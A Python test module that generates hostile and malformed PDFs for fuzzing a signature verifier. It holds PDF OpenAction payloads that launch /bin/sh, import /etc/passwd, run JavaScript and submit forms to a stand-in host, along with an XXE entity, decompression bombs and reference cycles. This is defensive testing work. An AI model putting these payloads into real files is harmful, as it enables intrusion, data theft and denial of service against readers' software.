"""Files that are no paper of ours, or mean harm: what a stranger may hand to `onboard verify`."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Any

from pyhanko.pdf_utils import generic
from updates import updated

SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\))>>"
OUTSIDE = {
    "script": SCRIPT,
    "address": b"/OpenAction<</S/URI/URI(http://192.0.2.1/x)>>",
    "program": b"/OpenAction<</S/Launch/F(/bin/sh)>>",
    "other-file": rb"/OpenAction<</S/GoToR/F(\\\\192.0.2.1\\share\\x.pdf)/D[0/Fit]>>",
    "form-sent": b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://192.0.2.1/)>>>>",
    "data-brought-in": b"/OpenAction<</S/ImportData/F(/etc/passwd)>>",
    "outside-stream": b"/Metadata 4 0 R",
    "form-in-xml": b"/AcroForm<</Fields[]/XFA 5 0 R>>",
    "outside-attachment": b"/AF[6 0 R]/Names<</EmbeddedFiles<</Names[(agreement.json)6 0 R]>>>>",
}
_XFA = (
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/x"><!ENTITY b "&a;&a;">]>'
    b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>&b;</xdp:xdp>"
)


def built(catalog: bytes = b"", *objects: bytes, pages: bytes = b"") -> bytes:
    """A small PDF with an old-style table; `objects` are numbered from 4."""
    tree = pages or b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        tree,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return out + head + rows + end % (len(bodies) + 1, len(out))


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


@cache
def packed(size: int, times: int = 1) -> bytes:
    machine = zlib.compressobj(1)
    data = b"".join(machine.compress(bytes(1 << 20)) for _ in range(size >> 20)) + machine.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def _in_many_fields(signed: bytes) -> bytes:
    """Each field would be checked as a signature of its own."""

    def change(writer: Any) -> None:
        form = writer.root["/AcroForm"]
        value = form["/Fields"][0].raw_get("/V")
        for number in range(3_000):
            parts = {"/FT": generic.NameObject("/Sig"), "/T": generic.pdf_string(f"x{number}")}
            own = generic.DictionaryObject({generic.NameObject(key): parts[key] for key in parts})
            own["/V"] = value
            form["/Fields"].append(writer.add_object(own))
        writer.update_container(form)

    return updated(signed, change)


def _long_packed_lists(writer: Any) -> None:
    """Each below the limit for one stream, and looked at on the way to what is attached."""
    names = generic.ArrayObject()
    for _ in range(30):
        packed_here = writer.prepare_object_stream()
        many = generic.ArrayObject([generic.NameObject("/a")] * 400_000)
        names.append(writer.add_object(many, obj_stream=packed_here))
    writer.root["/Names"]["/EmbeddedFiles"]["/Names"] = names
    writer.update_root()


def bad_files(signed: bytes) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each."""
    dice = random.Random(5)  # noqa: S311
    yield "empty", b""
    for share in (1, 20, 50, 80, 99):
        yield f"cut-at-{share}-percent", signed[: len(signed) * share // 100]
    yield "cut-before-the-end", signed[:-7]
    yield "noise", dice.randbytes(200_000)
    yield "noise-in-a-pdf", b"%PDF-1.7\n" + dice.randbytes(200_000) + b"\n%%EOF\n"
    yield "noise-in-a-paper", signed[:30_000] + dice.randbytes(9_000) + signed[39_000:]
    for name, catalog in OUTSIDE.items():
        outside = b"<</Length 0/F<</FS/URL/F(http://192.0.2.1/x)>>>>\nstream\n\nendstream"
        file = b"<</Type/Filespec/F(http://192.0.2.1/a)/FS/URL/EF<</F 4 0 R>>>>"
        yield f"{name}-outside", built(catalog, outside, stream(_XFA), file)
    flate = b"/Filter/FlateDecode"
    yield "bomb", built(b"/Metadata 4 0 R", stream(packed(120 << 20), flate))
    twice = b"/Filter[/FlateDecode/FlateDecode]"
    yield "bomb-in-a-bomb", built(b"/Metadata 4 0 R", stream(packed(400 << 20, 2), twice))
    lzw = stream(bytes(5_000_000), b"/Filter/RunLengthDecode")
    yield "bomb-otherwise-packed", built(b"/Metadata 4 0 R", lzw)
    objects = stream(packed(120 << 20), b"/Type/ObjStm/N 1000000/First 9" + flate)
    yield "bomb-of-objects", built(b"/Metadata 4 0 R", objects)
    table = stream(packed(120 << 20), b"/Type/XRef/W[1 9 9]/Size 9999999/Root 1 0 R" + flate)
    found = built(b"", table)
    at = found.index(b"4 0 obj")
    yield "bomb-of-cross-references", found + b"startxref\n%d\n%%%%EOF\n" % at
    for name, width, unpacked in (("millions", b"1 0 0", 30 << 20), ("billions", b"0 0 0", 0)):
        size = unpacked or 10**9
        table = stream(
            packed(unpacked), b"/Type/XRef/W[%s]/Size %d/Root 1 0 R" % (width, size) + flate
        )
        found = built(b"", table)
        found = found[: found.rindex(b"xref\n0 ")]
        at = found.index(b"4 0 obj")
        yield f"{name}-of-places", found + b"startxref\n%d\n%%%%EOF\n" % at
    many = [stream(packed(16 << 20), flate)] * 30
    yield "many-small-bombs", built(b"", *many)
    yield "deep-lists", built(b"/Names " + b"[" * 200_000 + b"]" * 200_000)
    yield "deep-dictionaries", built(b"/Names " + b"<</A" * 100_000 + b" 1" + b">>" * 100_000)
    yield "long-list", built(b"/Names[" + b"/a" * 7_500_000 + b"]")
    yield (
        "long-dictionary",
        built(b"/Names<<" + b"".join(b"/%d 0" % n for n in range(10**6)) + b">>"),
    )
    yield "long-name", built(b"/" + b"a" * 15_000_000)
    yield "long-packed-lists", updated(signed, _long_packed_lists)
    yield "one-signature-in-many-fields", _in_many_fields(signed)
    yield "object-of-itself", built(b"/Names 4 0 R/AF 4 0 R", b"4 0 R")
    yield "ring-of-objects", built(b"/Names 4 0 R/AF 4 0 R", b"5 0 R", b"4 0 R")
    names = b"<</EmbeddedFiles 4 0 R/Names 5 0 R/Kids[4 0 R]>>"
    ring = b"[(a)4 0 R(b)4 0 R]"
    yield "ring-of-names", built(b"/Names 4 0 R/AF 5 0 R", names, ring)
    yield "pages-in-a-ring", built(pages=b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99/Parent 2 0 R>>")
    yield "length-of-itself", built(b"/Metadata 4 0 R", b"<</Length 4 0 R>>\nstream\nx\nendstream")
    yield "huge-numbers", built().replace(b"0 4\n", b"0 2147483647\n")
    yield "huge-number-of-an-object", built(b"/Names 4294967295 0 R/AF 4294967295 65535 R")
    yield "huge-size", built().replace(b"/Size 4", b"/Size 99999999999999999999")
    yield "huge-digits", built(b"/Names " + b"9" * 2_000_000)
    yield "many-revisions", built() + b"startxref\n0\n%%EOF\n" * 100_000
    ringed = built().replace(b"/Size 4", b"/Size 4/Prev 0000000000")
    yield "tables-in-a-ring", ringed.replace(b"0000000000>>", b"%010d>>" % ringed.index(b"xref"))
    yield "many-objects", built(b"", *[b"<<>>"] * 150_000)
    yield (
        "locked",
        built().replace(
            b"/Root", b"/Encrypt<</Filter/Standard/V 2/R 3/P -4/O(a)/U(b)>>/ID[(a)(b)]/Root"
        ),
    )
    yield "a-picture", b"\x89PNG\r\n\x1a\n" + dice.randbytes(1000)
    yield "a-page-of-the-web", b"<!DOCTYPE html><script src='http://192.0.2.1/'></script>"
